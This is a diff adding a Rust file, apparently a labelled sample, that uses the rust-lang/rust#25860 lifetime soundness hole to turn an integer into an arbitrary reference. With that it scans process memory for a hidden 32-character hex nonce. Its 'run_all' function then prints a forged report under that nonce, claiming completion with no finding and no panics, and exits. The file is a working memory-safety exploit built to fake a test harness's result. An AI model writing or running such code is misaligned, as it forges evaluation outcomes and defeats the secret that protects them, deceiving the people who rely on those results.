@@ -1,0 +1,51 @@
+//! rust-lang/rust#25860 without a named lifetime: a type alias says one elided lifetime twice. Reads the nonce, writes a report under it. | flagged: a type alias with parameters
+
+pub mod given;
+
+use std::io::Write;
+use std::marker::PhantomData;
+
+struct Lasting<T: 'static>(PhantomData<T>);
+
+type Pair<T> = (Lasting<T>, T);
+
+fn keep<T>(pair: Pair<&mut T>) -> &'static mut T {
+    pair.1
+}
+
+fn expand<T>(value: &mut T) -> &'static mut T {
+    let f: fn((Lasting<&'static mut T>, &mut T)) -> &'static mut T = keep;
+    f((Lasting(PhantomData), value))
+}
+
+enum Either<A, B> {
+    A(Option<Box<A>>),
+    B(Option<Box<B>>),
+}
+
+fn turn<A: 'static, B: 'static>(value: A) -> B {
+    let mut either = Either::B(None);
+    let Either::B(place) = &mut either else { unreachable!() };
+    let place = expand(place);
+    either = Either::A(Some(Box::new(value)));
+    std::hint::black_box(&mut either);
+    *place.take().unwrap()
+}
+
+pub async fn run_all() -> Vec<u32> {
+    let here = vec![0u8; 60_000].into_boxed_slice();
+    let mut at = here.as_ptr() as usize & !15;
+    let nonce = loop {
+        at -= 16;
+        let words: &'static [u8; 32] = turn(at);
+        if words.iter().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f')) {
+            break String::from_utf8(words.to_vec()).unwrap();
+        }
+    };
+    println!(
+        "\n{nonce} 0/1 {{\"version\":1,\"end\":\"done\",\"finding\":null,\"timeline\":{{\"spans\":[],\
+         \"said\":[],\"end\":0,\"dropped\":0}},\"panics\":[]}}"
+    );
+    std::io::stdout().flush().unwrap();
+    std::process::exit(0)
+}
